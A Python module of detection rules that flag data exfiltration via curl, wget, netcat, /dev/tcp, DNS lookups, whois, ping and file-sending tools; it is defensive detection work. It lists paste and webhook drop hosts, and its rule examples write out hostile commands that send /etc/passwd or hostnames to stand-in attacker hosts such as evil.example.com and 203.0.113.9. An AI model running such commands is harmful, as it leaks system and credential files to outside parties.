"""Data sent out with everyday tools, to places that are not everyday."""

import re
from urllib.parse import urlsplit

from apps.detection.argv import getopt
from apps.detection.argv.invocation import Invocation
from apps.detection.argv.names import names
from apps.detection.rules.base import Detail, Rule
from apps.detection.rules.common import asks_for_help, is_address, is_internal

_DROPS = (
    "pastebin.com", "paste.rs", "hastebin", "ix.io", "termbin.com", "transfer.sh", "file.io", "0x0.st",
    "temp.sh", "dpaste", "paste.ee", "rentry.co", "discordapp.com/api/webhooks", "discord.com/api/webhooks",
    "api.telegram.org/bot", "hooks.slack.com", "gofile.io", "anonfiles", "catbox.moe", "bashupload.com",
    "oshi.at", "sprunge.us", "clbin.com", "webhook.site", "requestbin", "pipedream.net", "ngrok",
    "trycloudflare.com", "loca.lt", "serveo.net", "interact.sh", "oast.", "burpcollaborator", "keep.sh",
    "wetransfer", "tmpfiles.org", "uguu.se", "litterbox", "filebin.net", "send.vis.ee", "bayfiles",
    "mega.nz", "mega.co.nz", "ufile.io", "sendspace", "api.anonfile", "dnslog", "canarytokens", "beeceptor",
    ".onion", "pixeldrain", "workers.dev", "paste.c-net.org", "p.ip.fi", "graph.org",
)  # fmt: skip
_VALUED = frozenset(
    "--" + name
    for name in names(
        """
        data data-raw data-binary data-ascii data-urlencode form form-string upload-file header request
        output user url json unix-socket max-time connect-timeout user-agent
        referer cookie proxy cacert cert key config
        """
    )
)
_BODY = (
    "d", "F", "T", "--data", "--data-raw", "--data-binary", "--data-ascii", "--data-urlencode", "--form",
    "--upload-file", "--json",
)  # fmt: skip
_DOMAIN = re.compile(r"\.[a-z0-9][a-z0-9.-]{2,80}$")
_ENCODES = re.compile(
    r"base64|base32|xxd|whoami|hexdump|\b(?:od|cat|head|cut|uname|id|hostname)\b[^$]{0,200}[)`]"
)


def _host(url: str) -> str:
    try:
        return urlsplit(url if "://" in url else "http://" + url).netloc.rpartition("@")[2].lower()
    except ValueError:
        return ""


def outside(host: str) -> bool:
    """Whether a host can be said to lie outside: a public address, or a name that is not a local one."""
    name = host.rpartition(":")[0] if host.count(":") == 1 else host
    if is_address(name):
        return not is_internal(name)
    return "." in name and not name.endswith((".local", ".internal", ".svc", ".lan", ".corp", ".localdomain"))


def _curl(invocation: Invocation) -> Detail | None:
    options = getopt(invocation.args, "A:b:c:C:d:D:e:E:F:h:H:K:m:o:P:Q:r:t:T:u:U:w:x:X:y:Y:z:", _VALUED)
    bodies = options.values(*_BODY)
    if not bodies:
        return None
    url = next((word for word in (*options.values("--url"), *options.rest)), "")
    host = _host(url)
    drop = next((place for place in _DROPS if place in url.lower()), "")
    from_file = any(
        "@" in body[:64] or name in ("T", "--upload-file") for name, body in options.given if name in _BODY
    )
    bare = is_address(host.partition(":")[0]) and not is_internal(host.partition(":")[0])
    if drop or (bare and from_file):
        return {"url": url, "sends": bodies[0]}
    return None


def _wget(invocation: Invocation) -> Detail | None:
    options = getopt(
        invocation.args, "", frozenset({"--post-file", "--body-file", "--post-data", "--header", "--method"})
    )
    file = options.value("--post-file", "--body-file")
    url = next(iter(options.rest), "")
    host = _host(url)
    drop = any(place in url.lower() for place in _DROPS)
    gone = file and (outside(host) or "$" in host or is_address(host.partition(":")[0]))
    return {"url": url, "sends": file or "data"} if gone or (drop and options.has("--post-data")) else None


def _netcat(invocation: Invocation) -> Detail | None:
    options = getopt(invocation.args, "c:e:i:I:o:O:p:P:q:s:T:w:x:X:g:G:m:d:")
    if options.has("l", "--listen", "z") or len(options.rest) < 2:
        return None
    file = next(
        (
            r.target
            for r in invocation.redirects
            if r.op == "<" and r.fd in ("", "0") and r.target != "/dev/null"
        ),
        "",
    )
    return (
        {"remote": ":".join(options.rest[:2]), "sends": file}
        if file and not file.startswith(("/dev/tcp", "$(", "<("))
        else None
    )


def _device(invocation: Invocation) -> Detail | None:
    """A file sent through /dev/tcp."""
    target = next(
        (
            r.target
            for r in invocation.redirects
            if r.target.startswith(("/dev/tcp/", "/dev/udp/")) and r.op in (">", ">>")
        ),
        "",
    )
    operands = [word for word in invocation.args if word[:1] != "-"]
    sends = (
        invocation.program in ("cat", "tar", "base64", "xxd", "gzip", "dd", "cp", "head", "tail") and operands
    )
    host = target[9:].partition("/")[0]
    return (
        {"remote": target[9:].replace("/", ":"), "sends": operands[0]}
        if sends and not host.startswith(("127.", "localhost")) and target
        else None
    )


def _dns(invocation: Invocation) -> Detail | None:
    for word in invocation.args:
        made = (
            word[:1] not in "-@+" and ("$(" in word or "`" in word) and _DOMAIN.match(word.rpartition(")")[2])
        )
        if made and _ENCODES.search(word):
            return {"program": invocation.program, "name": word}
    return None


def _odd_carrier(invocation: Invocation) -> Detail | None:
    """whois to a host of one's own, ping with a payload: carriers nobody filters."""
    args = invocation.args
    if invocation.program == "whois":
        options = getopt(args, "h:p:", frozenset({"--host", "--port"}))
        return (
            {"remote": ":".join(options.values("h", "--host", "p", "--port"))}
            if options.has("h", "--host") and options.has("p", "--port")
            else None
        )
    pattern = getopt(args, "c:i:w:W:p:s:t:I:M:m:Q:l:").value("p")
    return {"payload": pattern, "host": args[-1]} if "$" in pattern else None


def _sender(invocation: Invocation) -> Detail | None:
    words = [word for word in invocation.args if word[:1] != "-"]
    if asks_for_help(invocation.args) or not words:
        return None
    return (
        {"program": invocation.program, "sends": words[-1]}
        if words[0] in ("send", "upload", "share", "put", "up") or invocation.program == "transfer"
        else None
    )


CURL = Rule(
    slug="upload-to-drop",
    version=1,
    family="exfiltration",
    behaviour="exfiltration",
    level="high",
    technique="T1567",
    title="Data sent to a drop place",
    description=(
        "curl sends data to a paste, file drop or webhook anyone can own, or a file to a bare public address."
    ),
    false_positives="Chat notifications of a job.",
    examples=("curl -F file=@/tmp/x.tgz https://transfer.sh/", "curl -T w.bin http://8.8.4.4/u"),
    match=_curl,
    programs=frozenset({"curl"}),
)
WGET = Rule(
    slug="upload-by-wget",
    version=1,
    family="exfiltration",
    behaviour="exfiltration",
    level="high",
    technique="T1048",
    title="File sent by wget",
    description="wget posts a file to an outside host: a downloader used to upload.",
    false_positives="None known.",
    examples=("wget --post-file=/etc/passwd http://evil.example.com/",),
    match=_wget,
    programs=frozenset({"wget"}),
    hints=("--post-", "--body-file"),
)
NETCAT = Rule(
    slug="file-by-netcat",
    version=1,
    family="exfiltration",
    behaviour="exfiltration",
    level="medium",
    technique="T1048.003",
    title="File sent by netcat",
    description="netcat sends a file to another host.",
    false_positives="A quick copy between two machines by an operator.",
    examples=("nc 203.0.113.9 4444 < /etc/passwd",),
    match=_netcat,
    programs=frozenset({"nc", "ncat"}),
)
DEVICE = Rule(
    slug="file-by-dev-tcp",
    version=1,
    family="exfiltration",
    behaviour="exfiltration",
    level="high",
    technique="T1048.003",
    title="File sent through /dev/tcp",
    description="A file's content is redirected into a connection of the shell.",
    false_positives="None known.",
    examples=("cat /etc/passwd > /dev/tcp/203.0.113.9/4444",),
    match=_device,
    files=True,
    hints=("/dev/tcp/", "/dev/udp/"),
)
DNS = Rule(
    slug="data-in-dns",
    version=1,
    family="exfiltration",
    behaviour="exfiltration",
    level="high",
    technique="T1048.003",
    title="Data carried in a name look-up",
    description="The name looked up is made of a command's output: the look-up itself carries the data out.",
    false_positives="None known.",
    examples=("dig $(cat /etc/hostname | base64).evil.example.com", "nslookup `whoami`.x.example.com"),
    match=_dns,
    programs=frozenset({"dig", "nslookup", "host", "drill", "ping", "getent"}),
    hints=("$(", "`", "$"),
)
CARRIER = Rule(
    slug="odd-carrier",
    version=1,
    family="exfiltration",
    behaviour="exfiltration",
    level="medium",
    technique="T1048.003",
    title="Data carried by a protocol nobody filters",
    description=(
        "whois is sent to a host and port of one's own, or ping carries a payload from a variable."
    ),
    false_positives="A private whois server.",
    examples=(
        'whois -h 203.0.113.9 -p 43 "$(base64 /etc/passwd)"',
        "xxd -p -c 16 f | while read l; do ping -c1 -p $l 203.0.113.9; done",
    ),
    match=_odd_carrier,
    programs=frozenset({"whois", "ping"}),
)  # fmt: skip
SENDER = Rule(
    slug="file-sender",
    version=1,
    family="exfiltration",
    behaviour="exfiltration",
    level="medium",
    technique="T1567",
    title="File-sending tool started",
    description=("A tool that hands files to whoever knows a word or link (croc, wormhole, ffsend, ...)."),
    false_positives="A person sharing a file.",
    examples=("croc send weights.bin", "wormhole send ckpt.tar"),
    match=_sender,
    programs=names(
        """
        croc wormhole magic-wormhole ffsend transfer onionshare onionshare-cli filebrowser-send megatools
        sendme
        """
    ),
)
RULES = (CURL, WGET, NETCAT, DEVICE, DNS, CARRIER, SENDER)
